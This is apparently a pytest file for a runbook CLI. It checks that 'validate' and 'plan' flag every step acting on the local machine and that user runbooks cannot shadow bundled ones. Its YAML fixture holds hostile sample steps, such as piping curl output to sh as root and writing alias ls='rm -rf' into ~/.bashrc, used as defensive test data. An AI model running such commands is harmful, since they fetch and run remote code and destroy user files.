"""Issue 20 item 4: validate and plan name every step that acts on this machine, and a user
runbook cannot silently shadow a bundled one. Through the real CLI."""

from __future__ import annotations

import os
from pathlib import Path

from .conftest import cli

LOCAL = """runbook: acts-here
params:
  - {name: where, type: string, default: local}
phases:
  - id: one
    steps:
      - id: harmless
        action: local.noop
      - id: shell_here
        action: ssh.run
        with: {host: local, command: "curl -s http://example.invalid/x | sh", sudo: true}
      - id: maybe_here
        action: ssh.run
        with: {host: "{{ params.where }}", command: "id"}
      - id: bashrc
        action: local.write
        with: {path: ~/.bashrc, content: "alias ls='rm -rf'"}
      - id: lint_elsewhere
        action: stack.doctor
        with: {path: /etc}
      - id: key
        action: aws.ensure
        with: {kind: key_pair, name: k, spec: {public_key_path: ~/.ssh/id_ed25519.pub}}
      - id: local_service
        action: http.check
        with: {url: "http://127.0.0.1:2375/containers/json"}
      - id: remote_service
        action: http.check
        with: {url: "http://203.0.113.9/health"}
"""


def test_validate_names_each_step_acting_on_this_machine(elematrix: str,
                                                         tmp_path: Path) -> None:
    path = tmp_path / "local.yaml"
    path.write_text(LOCAL)
    res = cli(elematrix, "validate", str(path))
    assert res.returncode == 0, res.stderr
    out = res.stdout
    assert "acts on THIS machine (6" in out, out
    assert "one/shell_here (ssh.run): runs `curl -s http://example.invalid/x | sh` on THIS " \
           "machine as root" in out
    assert "one/maybe_here (ssh.run): its host is chosen at run time" in out
    assert "one/bashrc (local.write): writes ~/.bashrc on THIS machine" in out
    assert "one/lint_elsewhere (stack.doctor): reads /etc on THIS machine" in out
    assert "one/key (aws.ensure): reads ~/.ssh/id_ed25519.pub on THIS machine" in out
    assert "one/local_service (http.check): requests http://127.0.0.1:2375/containers/json" \
        in out
    assert "harmless" not in out and "remote_service" not in out


def test_plan_names_them_with_rendered_inputs(elematrix: str, tmp_path: Path) -> None:
    path = tmp_path / "local.yaml"
    path.write_text(LOCAL)
    res = cli(elematrix, "plan", str(path), "--deployment", "here", "--offline")
    assert res.returncode == 0, res.stderr
    out = res.stdout
    head = out.split("Phase one")[0]
    assert "Acts on THIS machine (6 step(s)" in head, out
    assert "one/maybe_here (ssh.run): runs `id` on THIS machine (host: local)" in head
    assert out.count("ON THIS MACHINE:") == 6
    res = cli(elematrix, "plan", str(path), "--deployment", "here", "--offline",
              "--set", "where=203.0.113.9")
    assert "Acts on THIS machine (5 step(s)" in res.stdout, res.stdout


def test_plan_of_a_runbook_that_stays_in_its_sandbox_says_so(elematrix: str) -> None:
    res = cli(elematrix, "plan", "verify", "--deployment", "quiet", "--offline")
    assert res.returncode == 0, res.stderr
    assert "Acts on this machine: nothing beyond the deployment directory" in res.stdout


def test_a_user_runbook_never_shadows_a_bundled_one(elematrix: str, tmp_path: Path) -> None:
    user_dir = Path(os.environ["ELEMATRIX_CONFIG_DIR"]) / "runbooks"
    user_dir.mkdir(parents=True)
    (user_dir / "verify.yaml").write_text(LOCAL.replace("acts-here", "verify"))
    (user_dir / "mine.yaml").write_text(LOCAL.replace("acts-here", "mine"))
    for cmd in (["validate", "verify"], ["plan", "verify", "--deployment", "x", "--offline"]):
        res = cli(elematrix, *cmd)
        assert res.returncode == 2, (cmd, res.stdout, res.stderr)
        assert "both a bundled runbook and" in res.stderr and str(user_dir / "verify.yaml") \
            in res.stderr, res.stderr
    # The explicit path is the operator's way to run their own one; a name of its own works.
    assert cli(elematrix, "validate", str(user_dir / "verify.yaml")).returncode == 0
    assert cli(elematrix, "validate", "mine").returncode == 0
